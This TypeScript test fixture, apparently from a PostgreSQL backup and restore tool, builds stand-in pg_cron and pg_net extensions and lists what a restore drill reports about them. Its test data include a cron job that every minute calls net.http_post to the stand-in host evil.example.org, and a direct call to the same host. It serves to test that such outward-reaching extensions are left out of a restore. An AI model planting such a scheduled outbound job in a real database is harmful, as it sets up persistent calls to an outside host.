import { chmod, mkdir, mkdtemp, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'

/*
 * Stand-ins for pg_cron and pg_net, which no test can install: extensions with schemas, tables and sequences of these names,
 * whose rows pg_dump takes along (pg_extension_config_dump), as it does those of the real ones.
 */

const scripts: Readonly<Record<string, string>> = {
  pg_cron: `
    create schema cron;
    create sequence cron.jobid_seq;
    create table cron.job (jobid bigint primary key default nextval('cron.jobid_seq'), schedule text, command text);
    select pg_catalog.pg_extension_config_dump('cron.job', '');
    select pg_catalog.pg_extension_config_dump('cron.jobid_seq', '');`,
  pg_net: `
    create schema net;
    create table net.http_request_queue (id bigserial primary key, url text);
    select pg_catalog.pg_extension_config_dump('net.http_request_queue', '');
    create function net.http_post(url text) returns bigint language sql
      as 'insert into net.http_request_queue (url) values ($1) returning id';`,
}

/** Makes a folder that PostgreSQL 18 finds them in. */
export async function makeExtensions(): Promise<string> {
  const folder = await mkdtemp(join(tmpdir(), 'lifeboat-extensions-'))
  await chmod(folder, 0o755)
  await mkdir(join(folder, 'extension'), { mode: 0o755 })
  for (const [name, script] of Object.entries(scripts)) {
    await writeFile(join(folder, 'extension', `${name}.control`), "default_version = '1.0'\nrelocatable = false\n")
    await writeFile(join(folder, 'extension', `${name}--1.0.sql`), script)
  }
  return folder
}

/** A job, a request, rights on them, and what of the database's own needs them. */
export const jobsAndRequests: readonly string[] = [
  'create extension pg_cron',
  'create extension pg_net',
  `insert into cron.job (schedule, command) values ('* * * * *', 'select net.http_post(''http://evil.example.org'')')`,
  `select net.http_post('http://evil.example.org')`,
  'grant usage on schema cron to public',
  'grant select on cron.job to public',
  'create view jobs as select * from cron.job',
]

/** What a drill says of it. */
export const leftOfExtensions: readonly string[] = [
  'EXTENSION pg_cron: it reaches outward or starts jobs by itself',
  'ACL on SCHEMA cron: it needs EXTENSION pg_cron, which is left out',
  'EXTENSION pg_net: it reaches outward or starts jobs by itself',
  'ACL on TABLE job in cron: it needs EXTENSION pg_cron, which is left out',
  'VIEW public.jobs: it needs EXTENSION pg_cron, which is left out',
  'TABLE DATA cron.job: it needs EXTENSION pg_cron, which is left out',
  'TABLE DATA net.http_request_queue: it needs EXTENSION pg_net, which is left out',
  'SEQUENCE SET cron.jobid_seq: it needs EXTENSION pg_cron, which is left out',
]
